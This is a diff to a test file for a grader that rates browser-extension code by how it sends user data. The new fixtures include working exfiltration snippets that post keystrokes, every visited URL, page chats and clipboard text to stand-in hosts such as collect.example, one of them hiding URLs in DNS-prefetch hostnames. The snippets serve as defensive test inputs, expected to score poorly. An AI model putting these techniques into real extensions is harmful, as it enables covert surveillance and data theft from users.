@@ -156,7 +156,7 @@ describe('the grade of what sends data', () => {
           "const post = (to, body) =>\n  fetch(to, { method: 'POST', body });\nchrome.runtime.onStartup.addListener(() =>\n  post('https://stranger.example/ping', 'hello'));\nchrome.tabs.onUpdated.addListener((id, info, tab) =>\n  post('https://api.notes.example/seen', tab.title));",
         manifest: { homepage_url: 'https://notes.example/' },
       },
-      ['A+', 'A', 'B', 'C'],
+      ['D'],
     ],
     [
       'the storage of a page, through a frame that is made for it',
@@ -258,6 +258,75 @@ describe('the grade of what sends data', () => {
           "window.addEventListener('message', (e) => { if (e.source !== window || e.data.from !== 'filters') return; (0, eval)(e.data.code); });",
       },
       ['A+', 'A'],
+    ],
+    [
+      'what is typed, to its maker, once that is turned on',
+      {
+        content:
+          "document.addEventListener('input', async (e) => { const { consent } = await chrome.storage.local.get(['consent']); if (!consent) return; fetch('https://api.notes.example/check', { method: 'POST', body: e.target.value }); });",
+        popup: "document.querySelector('#b').onclick = () => chrome.storage.local.set({ consent: true });",
+        manifest: { homepage_url: 'https://notes.example/' },
+      },
+      ['A+', 'A', 'B'],
+    ],
+    [
+      'the same, turned on from the start',
+      {
+        content:
+          "document.addEventListener('input', async (e) => { const { consent } = await chrome.storage.local.get({ consent: true }); if (!consent) return; fetch('https://api.notes.example/check', { method: 'POST', body: e.target.value }); });",
+        manifest: { homepage_url: 'https://notes.example/' },
+      },
+      ['C', 'D', 'F'],
+    ],
+    [
+      'the same, turned on by the background',
+      {
+        content:
+          "document.addEventListener('input', async (e) => { const { consent } = await chrome.storage.local.get('consent'); if (!consent) return; fetch('https://api.notes.example/check', { method: 'POST', body: e.target.value }); });",
+        background: 'chrome.runtime.onInstalled.addListener(() => chrome.storage.local.set({ consent: true }));',
+        manifest: { homepage_url: 'https://notes.example/' },
+      },
+      ['C', 'D', 'F'],
+    ],
+    [
+      'every address, with a look at its scheme only',
+      {
+        background:
+          "chrome.webNavigation.onCommitted.addListener((d) => { if (d.frameId !== 0 || d.url.indexOf('http') !== 0) return; fetch('https://collect.example/x', { method: 'POST', body: d.url }); });",
+      },
+      ['F'],
+    ],
+    [
+      'every address, in the name of a host that is looked up',
+      {
+        content:
+          "const l = document.createElement('link'); l.rel = 'dns-prefetch'; l.href = `//${btoa(location.href)}.a.collect.example`; document.head.append(l);",
+      },
+      ['F'],
+    ],
+    [
+      'chats, to whoever is at the other end of a channel',
+      {
+        content:
+          "const pc = new RTCPeerConnection(); const line = pc.createDataChannel('a'); line.onopen = () => new MutationObserver(() => line.send(document.querySelector('#main').innerText)).observe(document.body, { childList: true });",
+      },
+      ['F', 'D'],
+    ],
+    [
+      'the clipboard, to where a server says',
+      {
+        background:
+          "let to; fetch('https://conf.collect.example/c.json').then((r) => r.json()).then((c) => { to = c.u; }); setInterval(async () => { const text = await navigator.clipboard.readText(); if (to) navigator.sendBeacon(to, text); }, 2000);",
+      },
+      ['F'],
+    ],
+    [
+      'the place, to a weather service, when a button is pressed',
+      {
+        popup:
+          "document.querySelector('#b').onclick = () => navigator.geolocation.getCurrentPosition((p) => fetch('https://weather.example/now?lat=' + p.coords.latitude));",
+      },
+      ['A+', 'A', 'B'],
     ],
   ] as const)('%s', async (_, parts, grades) => {
     expect(grades).toContain(await graded(parts));
